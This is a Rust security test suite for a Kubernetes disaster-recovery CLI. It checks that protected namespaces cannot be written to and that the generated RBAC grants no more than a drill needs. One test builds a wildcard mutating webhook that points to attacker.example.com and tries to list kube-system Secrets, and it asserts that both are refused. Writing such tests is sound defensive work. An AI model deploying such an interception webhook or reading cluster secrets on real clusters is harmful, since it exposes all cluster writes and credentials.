//! The security suite, CLI part (issue 21; see dr-syncer-operator/tests/security.rs): each test is an
//! attack, refused.

use std::process::Command;

use dr_syncer_testenv::{ControlPlane, init_tracing};

const BIN: &str = env!("CARGO_BIN_EXE_dr-syncer-cli");

/// Every drill step that would write into `kube-system` (as the source, the destination, or the one side
/// of a fence or promote) exits 4 naming the protected namespace, and writes nothing on either cluster.
#[tokio::test]
async fn no_drill_step_touches_kube_system() {
    init_tracing();
    let [src, dst] = ControlPlane::start_many(["cli-sec-prod", "cli-sec-dr"])
        .await
        .unwrap();
    let reader = src.identity("dr-syncer-cli").await.unwrap();
    let writer = dst.identity("dr-syncer-cli").await.unwrap();
    let (r, w) = (
        reader.kubeconfig.to_str().unwrap(),
        writer.kubeconfig.to_str().unwrap(),
    );
    let both = |ns: &[&str], step: &[&str]| -> Vec<String> {
        let mut args: Vec<String> = ["--source-kubeconfig", r, "--dest-kubeconfig", w]
            .iter()
            .map(|s| (*s).to_owned())
            .collect();
        args.extend(ns.iter().map(|s| (*s).to_owned()));
        args.extend(["--resource-types".to_owned(), "configmaps".to_owned()]);
        args.extend(step.iter().map(|s| (*s).to_owned()));
        args
    };
    let cases: Vec<(&str, Vec<String>)> = vec![
        ("source", both(&["--source-namespace", "kube-system"], &["stage"])),
        (
            "destination",
            both(
                &["--source-namespace", "default", "--dest-namespace", "kube-system"],
                &["stage"],
            ),
        ),
        (
            "source",
            both(&["--source-namespace", "kube-system"], &["cutover", "--yes"]),
        ),
        (
            "destination",
            vec![
                "--dest-kubeconfig".into(),
                w.into(),
                "--dest-namespace".into(),
                "kube-system".into(),
                "promote".into(),
                "--yes".into(),
            ],
        ),
        (
            "source",
            vec![
                "--source-kubeconfig".into(),
                r.into(),
                "--source-namespace".into(),
                "kube-node-lease".into(),
                "fence".into(),
                "--yes".into(),
            ],
        ),
    ];
    for (role, args) in cases {
        let out = Command::new(BIN).args(&args).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(4), "{args:?}: {stderr}");
        assert!(
            stderr.contains(&format!("{role} namespace kube-")) && stderr.contains("is protected"),
            "{args:?}: {stderr}"
        );
    }
    for cp in [&src, &dst] {
        let writes = cp.requests("dr-syncer-cli").await.unwrap().stored_writes();
        assert_eq!(writes, 0, "nothing written");
    }
}

fn run(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(BIN).args(args).output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The DR identity holds exactly what `dr-syncer-cli rbac --destination` grants (and the source identity
/// what `--source` grants): a full drill (stage, cutover, failback with --sync-back) works with it, and
/// the identity cannot create a MutatingWebhookConfiguration (which would intercept every write in the
/// DR cluster) nor read the DR cluster's kube-system Secrets.
#[tokio::test]
async fn generated_remote_rbac_is_enough_for_a_drill_and_no_more() {
    use dr_syncer_testenv::{apply_yaml, create_namespace};
    use k8s_openapi::api::{
        admissionregistration::v1::MutatingWebhookConfiguration, apps::v1::Deployment, core::v1::Secret,
    };
    use kube::{Api, api::PostParams};

    init_tracing();
    let (src, dst) = tokio::join!(
        ControlPlane::builder("cli-rbac-prod").rbac(true).start(),
        ControlPlane::builder("cli-rbac-dr").rbac(true).start(),
    );
    let (src, dst) = (src.unwrap(), dst.unwrap());
    let ns = create_namespace(&src.client(), "shop").await.unwrap();
    apply_yaml(
        &src.client(),
        Some(&ns),
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\ndata: {v: '1'}\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: creds}\nstringData: {p: x}\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n  replicas: 2\n  selector: {matchLabels: {app: web}}\n  template:\n    metadata: {labels: {app: web}}\n    spec: {containers: [{name: web, image: nginx}]}\n",
    )
    .await
    .unwrap();
    let reader = src.identity_in_groups("drs-reader", &[]).await.unwrap();
    let writer = dst.identity_in_groups("drs-writer", &[]).await.unwrap();
    let types = "configmaps,secrets,deployments";
    // Without the roles, nothing works (the enforcement is real).
    let (r, w) = (
        reader.kubeconfig.to_str().unwrap(),
        writer.kubeconfig.to_str().unwrap(),
    );
    let drill = |step: &[&str]| {
        let mut args = vec![
            "--source-kubeconfig",
            r,
            "--dest-kubeconfig",
            w,
            "--source-namespace",
            &ns,
            "--resource-types",
            types,
            "--yes",
        ];
        args.extend_from_slice(step);
        run(&args)
    };
    assert_ne!(drill(&["stage"]).0, 0, "refused without the roles");

    let (code, source_rbac, err) = run(&[
        "rbac",
        "--source",
        "--sync-back",
        "--namespace",
        &ns,
        "--resource-types",
        types,
        "--bind-user",
        "drs-reader",
    ]);
    assert_eq!(code, 0, "{err}");
    // Namespace scope on the DR side: the DR namespace exists before its Role can (the admin creates it).
    let (code, dest_rbac, err) = run(&[
        "rbac",
        "--destination",
        "--namespace",
        &ns,
        "--resource-types",
        types,
        "--bind-user",
        "drs-writer",
    ]);
    assert_eq!(code, 0, "{err}");
    for yaml in [&source_rbac, &dest_rbac] {
        assert!(!yaml.contains('*'), "no wildcards: {yaml}");
    }
    apply_yaml(&src.client(), None, &source_rbac).await.unwrap();
    apply_yaml(
        &dst.client(),
        None,
        &format!("apiVersion: v1\nkind: Namespace\nmetadata: {{name: {ns}}}\n"),
    )
    .await
    .unwrap();
    apply_yaml(&dst.client(), None, &dest_rbac).await.unwrap();

    for step in [&["stage"][..], &["cutover"][..], &["failback", "--sync-back"][..]] {
        let (code, out, err) = drill(step);
        assert_eq!(code, 0, "{step:?}\nstdout:\n{out}\nstderr:\n{err}");
    }
    let web = Api::<Deployment>::namespaced(src.client(), &ns)
        .get("web")
        .await
        .unwrap();
    assert_eq!(
        web.spec.unwrap().replicas,
        Some(2),
        "production runs again after the failback"
    );

    // And no more than that.
    let webhook: MutatingWebhookConfiguration = serde_json::from_value(serde_json::json!({
        "metadata": {"name": "intercept"},
        "webhooks": [{
            "name": "intercept.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "clientConfig": {"url": "https://attacker.example.com/"},
            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["CREATE"], "resources": ["*"]}]
        }]
    }))
    .unwrap();
    let refused = Api::<MutatingWebhookConfiguration>::all(writer.client.clone())
        .create(&PostParams::default(), &webhook)
        .await;
    assert!(
        matches!(&refused, Err(kube::Error::Api(s)) if s.code == 403),
        "{refused:?}"
    );
    let secrets = Api::<Secret>::namespaced(writer.client.clone(), "kube-system")
        .list(&Default::default())
        .await;
    assert!(
        matches!(&secrets, Err(kube::Error::Api(s)) if s.code == 403),
        "{secrets:?}"
    );
}
